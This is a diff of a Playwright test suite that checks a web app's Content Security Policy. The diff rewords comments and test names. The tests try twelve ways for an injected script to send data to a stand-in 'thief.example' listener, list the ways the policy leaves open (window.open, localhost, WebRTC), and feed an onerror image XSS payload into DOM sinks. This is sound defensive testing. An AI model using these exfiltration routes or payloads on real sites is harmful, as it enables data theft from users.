@@ -8,10 +8,10 @@ import { join } from 'node:path';
 import type { BrowserContext, Page } from '@playwright/test';
 import { expect, nightly, test as base } from './support/test.ts';
 
-/** A name that only this browser knows; it leads to the listener. */
+/** A host name that only this browser resolves, to the address of the listener. */
 const thief = 'thief.example';
 
-/** Listens for whatever an injected script gets out. */
+/** A server that receives the data an injected script sends. */
 async function startListener() {
   const heard = new Set<string>();
   const server = createServer((request, response) => {
@@ -39,7 +39,7 @@ type Listener = Awaited<ReturnType<typeof startListener>>;
 
 interface Fixtures {
   listener: Listener;
-  /** A browser for which the listener is a host somewhere else. */
+  /** A browser for which the listener is a host on the internet. */
   visit: (how: 'with our policy' | 'without a policy') => Promise<Visit>;
 }
 
@@ -109,7 +109,7 @@ function addElement(page: Page, tag: string, attributes: Record<string, string>)
   );
 }
 
-/** How a script that runs in our page could send away what it read there. */
+/** The ways in which an injected script could send data to another host. */
 const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
   fetch: (page, url) => page.evaluate((to) => fetch(to, { mode: 'no-cors' }), url),
   XHR: (page, url) =>
@@ -135,7 +135,7 @@ const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
   navigation: (page, url) => page.evaluate((to) => window.location.assign(to), url),
 };
 
-/** By what each is shut. */
+/** The directive that blocks each of them. */
 const shutBy: Record<string, string> = {
   fetch: 'connect-src',
   XHR: 'connect-src',
@@ -150,7 +150,7 @@ const shutBy: Record<string, string> = {
   prefetch: 'default-src',
 };
 
-/** Tries all the ways, one after the other, and waits until it is clear what became of each. */
+/** Tries all of them one after the other, and waits for the result of each. */
 async function tryAll(page: Page, url: string, isOver: (name: string) => Promise<void>) {
   for (const [name, leave] of Object.entries(ways)) {
     await leave(page, `${url}/${name}`).catch(() => undefined);
@@ -158,7 +158,10 @@ async function tryAll(page: Page, url: string, isOver: (name: string) => Promise
   }
 }
 
-test('of twelve ways out of a page, our policy shuts eleven', async ({ visit, listener }) => {
+test('our policy blocks eleven of twelve ways to send data out of a page', async ({
+  visit,
+  listener,
+}) => {
   const { context, violations } = await visit('with our policy');
   await tryAll(await openPage(context), listener.url, async (name) => {
     const directive = shutBy[name];
@@ -169,7 +172,7 @@ test('of twelve ways out of a page, our policy shuts eleven', async ({ visit, li
   expect([...listener.heard].filter((name) => name !== 'favicon.ico')).toEqual(['navigation']);
 });
 
-test('without our policy all twelve are open', nightly, async ({ visit, listener }) => {
+test('without our policy all twelve work', nightly, async ({ visit, listener }) => {
   const { context, violations } = await visit('without a policy');
   await tryAll(await openPage(context), listener.url, async (name) => {
     await expect.poll(() => [...listener.heard]).toContain(name);
@@ -177,7 +180,7 @@ test('without our policy all twelve are open', nightly, async ({ visit, listener
   expect(violations).toEqual([]);
 });
 
-/** How a script gets past the policy all the same: docs/security.md admits each of these. */
+/** The ways that the policy does not block; docs/security.md names each of them. */
 const admitted: Record<string, (page: Page, listener: Listener) => Promise<unknown>> = {
   window: (page, { url }) => page.evaluate((to) => void window.open(to), `${url}/window`),
   'this computer': (page, { port }) =>
@@ -197,7 +200,7 @@ const admitted: Record<string, (page: Page, listener: Listener) => Promise<unkno
   },
 };
 
-test('what our policy can not shut is known', nightly, async ({ visit, listener }) => {
+test('the ways that our policy can not block are known', nightly, async ({ visit, listener }) => {
   const { context } = await visit('with our policy');
   const page = await openPage(context);
   for (const [name, leave] of Object.entries(admitted)) {
@@ -206,7 +209,7 @@ test('what our policy can not shut is known', nightly, async ({ visit, listener 
   }
 });
 
-test('a script can name a host of its own by WebRTC', nightly, async ({ visit }) => {
+test('a script can contact its own host through WebRTC', nightly, async ({ visit }) => {
   const socket = createSocket('udp4');
   await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
   const heard = new Promise((resolve) => socket.once('message', resolve));
@@ -225,7 +228,7 @@ test('a script can name a host of its own by WebRTC', nightly, async ({ visit })
 const script = "ran('injected')";
 const markup = `<img src="/none" onerror="${script}">`;
 
-/** How a text could become script. */
+/** The ways in which a text could run as script. */
 const sinks: Record<string, (page: Page) => Promise<unknown>> = {
   innerHTML: (page) => page.evaluate((text) => (document.body.innerHTML = text), markup),
   outerHTML: (page) =>
@@ -287,7 +290,7 @@ interface Factory {
   ): { createHTML(html: string): string };
 }
 
-test('no text becomes script, and each would without our policy', nightly, async ({ visit }) => {
+test('no text runs as script, and each would without our policy', nightly, async ({ visit }) => {
   const shut = await visit('with our policy');
   const open = await visit('without a policy');
   const page = await openPage(shut.context);
